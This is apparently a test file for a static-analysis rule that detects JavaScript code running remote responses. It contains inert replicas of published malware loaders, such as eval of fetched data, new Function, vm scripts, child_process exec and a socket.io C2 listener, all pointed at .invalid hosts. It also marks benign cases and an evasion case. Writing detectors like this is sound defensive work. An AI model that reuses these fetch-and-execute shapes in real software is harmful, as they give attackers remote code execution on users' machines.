// Inert replicas of published loader shapes: hosts are under .invalid, nothing here is a payload.
const axios = require("axios");
const https = require("https");
const vm = require("vm");
const cp = require("child_process");
const { spawn } = require("child_process");

// rubenmarcus real_estate userController.js: await axios.get(npoint) -> eval(result.data.cookie)
async function getCookie() {
  const result = await axios.get("https://api.npoint.invalid/ac2916e3f543effa2edd");
  // ruleid: remote-response-to-code-execution
  eval(result.data.cookie);
}

// PawCommerce bootstrap.js: new (Function.constructor)('require', s)
async function bootstrap(src, k, v) {
  const s = (await axios.get(src, { headers: { [k]: v } })).data.cookies;
  // ruleid: remote-response-to-code-execution
  const handler = new (Function.constructor)("require", s);
  handler(require);
}

// Wallet Trap vite.cookie.js: fetch -> r.json() -> new Function('require', d.cookie)(require)
function walletTrap() {
  // ruleid: remote-response-to-code-execution
  fetch("https://jsonkeeper.invalid/b/Q0Q0Z").then((r) => r.json()).then((d) => new Function("require", d.cookie)(require));
}

// fetch(url).then(r => r.text()).then(eval)
function fetchEval(url) {
  // ruleid: remote-response-to-code-execution
  fetch(url).then((r) => r.text()).then(eval);
}

async function fetchAwait(url) {
  const body = await (await fetch(url)).text();
  // ruleid: remote-response-to-code-execution
  (0, eval)(body);
}

// realfraction regionChecker.js: https.request chunks accumulated, eval(data) on 'end'
function regionChecker() {
  https.request("https://www.ipregionchecker.invalid/api/ip-check-encrypted/3aeb34a31",
    { method: "POST", headers: { "x-secret-header": "secret" } }, (res) => {
      let data = "";
      res.on("data", (c) => (data += c)).on("end", () => {
        if (data === "blocked") return;
        // ruleid: remote-response-to-code-execution
        try { eval(data); } catch (_) {}
      });
    }).end();
}

// error-path variant: the body of a rejected axios call, read in .catch
function errorPath(url) {
  axios.get(url).catch((err) => {
    const message = err.response.data.token;
    // ruleid: remote-response-to-code-execution
    const errorHandler = new Function.constructor("require", message);
    errorHandler(require);
  });
}

async function tryCatchPath(url) {
  try {
    await axios.post(url, {});
  } catch (e) {
    // ruleid: remote-response-to-code-execution
    global.eval(e.response.data);
  }
}

function promiseThenParam(url) {
  axios.get(url).then(function (response) {
    // ruleid: remote-response-to-code-execution
    vm.runInNewContext(response.data.model, { require });
  });
}

async function axiosInstance() {
  const api = axios.create({ baseURL: "https://api.invalid" });
  const res = await api.get("/config");
  // ruleid: remote-response-to-code-execution
  new vm.Script(res.data).runInThisContext();
}

async function childProcessEval(url) {
  const { data } = await axios.get(url);
  // ruleid: remote-response-to-code-execution
  spawn(process.execPath, ["-e", data], { detached: true });
  // ruleid: remote-response-to-code-execution
  cp.exec(data);
}

async function constructorChain(url) {
  const r = await fetch(url);
  const t = await r.text();
  // ruleid: remote-response-to-code-execution
  [].constructor.constructor(t)();
}

// --- benign shapes: parsing a response is not executing it

async function parseOnly(url) {
  const res = await axios.get(url);
  // ok: remote-response-to-code-execution
  const cfg = JSON.parse(res.data);
  return cfg;
}

function templateFromDisk(fs, file) {
  const src = fs.readFileSync(file, "utf8");
  // ok: remote-response-to-code-execution
  return new Function("data", "return `" + src + "`");
}

function regexExec(url) {
  fetch(url).then((r) => r.text()).then((t) => {
    // ok: remote-response-to-code-execution
    return /version: (\d+)/.exec(t);
  });
}

function constantChildProcess() {
  // ok: remote-response-to-code-execution
  cp.exec("git rev-parse HEAD");
}

// Known evasion: the response is handed through a module-level variable set in another function.
let stash = "";
async function store(url) { stash = (await axios.get(url)).data; }
function run() {
  // todoruleid: remote-response-to-code-execution
  eval(stash);
}

// Destructured child_process (Unit 42 BeaverTail next-stage shape)
const { exec: shell, execSync } = require("node:child_process");
function fixEnvironment(url) {
  axios.get(url).then((res) => {
    // ruleid: remote-response-to-code-execution
    execSync(res.data);
  });
}

// socket.io C2 tasking (OtterCookie): every event's payload is remote
const { io } = require("socket.io-client");
const socket = io("http://c2.example.invalid:1224");
socket.on("command", (code) => {
  // ruleid: remote-response-to-code-execution
  eval(code);
});
